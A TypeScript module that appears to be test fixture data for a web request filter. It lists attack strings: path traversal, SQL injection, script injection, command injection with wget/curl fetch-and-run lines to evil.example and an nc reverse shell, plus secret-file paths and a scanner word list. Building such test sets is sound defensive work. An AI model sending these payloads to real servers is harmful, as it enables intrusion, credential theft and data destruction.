/** What attackers send, as it stands in the request line. Harmless here: nothing executes it. */

export const traversalPayloads: readonly string[] = [
  '/download?file=../../../../etc/passwd',
  '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/static/../../../../etc/shadow',
  '/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/images?src=....//....//....//etc/hosts',
  '/download?file=..\\..\\..\\windows\\win.ini',
  '/view?page=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
  '/view?page=%252e%252e%252f%252e%252e%252fetc%252fpasswd',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/download?file=../../../../proc/self/environ',
]

export const sqlPayloads: readonly string[] = [
  "/products?id=1'%20OR%20'1'='1",
  '/products?id=1%20OR%201=1--',
  '/products?id=-1%20UNION%20SELECT%201,2,3--',
  '/products?id=-1+UNION+ALL+SELECT+NULL,username,password+FROM+users--',
  "/search?q=x'%3B%20DROP%20TABLE%20orders--",
  "/search?q=x'%20AND%20SLEEP(5)--",
  "/login?user=admin'--&password=x",
  '/api/v1/stock?sku=1%27%20AND%20(SELECT%201%20FROM%20information_schema.tables)=1--',
  "/products?id=1'%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--",
  "/products?id=1;%20WAITFOR%20DELAY%20'0:0:5'--",
  '/products?id=1%20AND%20BENCHMARK(5000000,MD5(1))',
]

export const scriptPayloads: readonly string[] = [
  '/search?q=<script>alert(1)</script>',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/search?q=%3Csvg/onload=alert(1)%3E',
  '/profile?next=javascript:alert(1)',
  '/search?q=%22%3E%3Cscript%20src=//evil.example/x.js%3E%3C/script%3E',
  '/search?q=%3Ciframe%20src=javascript:alert(1)%3E',
  '/search?q=%3Cbody%20onload=alert(1)%3E',
]

export const commandPayloads: readonly string[] = [
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/ping?host=127.0.0.1%3Bid',
  '/ping?host=127.0.0.1|whoami',
  '/ping?host=127.0.0.1%26%26uname%20-a',
  '/ping?host=$(id)',
  '/ping?host=`whoami`',
  '/cgi-bin/status?x=;wget%20http://evil.example/a.sh%20-O%20/tmp/a.sh',
  '/cgi-bin/status?x=;curl%20http://evil.example/a.sh|sh',
  '/export?format=pdf;/bin/bash%20-c%20id',
  '/export?format=pdf%7Cnc%20-e%20/bin/sh%20203.0.113.9%204444',
]

export const secretFiles: readonly string[] = [
  '/.env',
  '/.env.production',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/.htpasswd',
  '/wp-config.php.bak',
  '/config.php.old',
  '/backup.sql',
  '/database.sql.gz',
  '/.DS_Store',
  '/server-status',
]

const folders = [
  '',
  '/admin',
  '/old',
  '/test',
  '/backup',
  '/api',
  '/portal',
  '/cms',
  '/shop',
  '/user',
  '/dev',
  '/tmp',
]
const names = [
  'index.php',
  'setup.php',
  'console',
  'manager',
  'upload',
  'status',
  'info.php',
  'debug',
  'panel',
  'install',
]

/** Paths of a word list, of the sort that directory scanners bring along. */
export const wordlist: readonly string[] = folders.flatMap((folder) =>
  names.map((name) => `${folder}/${name}`),
)
